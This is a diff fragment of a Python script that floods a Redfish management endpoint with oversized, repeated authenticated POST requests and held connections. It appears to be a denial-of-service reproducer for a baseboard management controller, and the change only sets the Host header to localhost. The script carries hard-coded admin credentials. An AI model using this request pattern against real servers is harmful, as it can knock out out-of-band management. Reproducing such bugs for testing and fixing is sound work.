@@ -14,7 +14,7 @@ path, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
 login = b"Authorization: Basic " + base64.b64encode(b"admin:secret") + b"\r\n"
 action = b"/redfish/v1/Systems/Host/Actions/Oem/CXLHostComputerSystem.TranslateSPA"
 body = b'{"SystemPhysicalAddresses":[' + b",".join([b'"0x210002040"'] * 10000) + b"]}"
-post = (b"POST " + action + b" HTTP/1.1\r\nHost: x\r\n" + login
+post = (b"POST " + action + b" HTTP/1.1\r\nHost: localhost\r\n" + login
         + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body))
 stages = [
     b"",
@@ -24,7 +24,7 @@ stages = [
     post + body,
     post + body,
     post + body,
-    b"GET /redfish HTTP/1.1\r\nHost: x\r\n\r\n",
+    b"GET /redfish HTTP/1.1\r\nHost: localhost\r\n\r\n",
 ]
 held = []
 for stage in stages * 8:
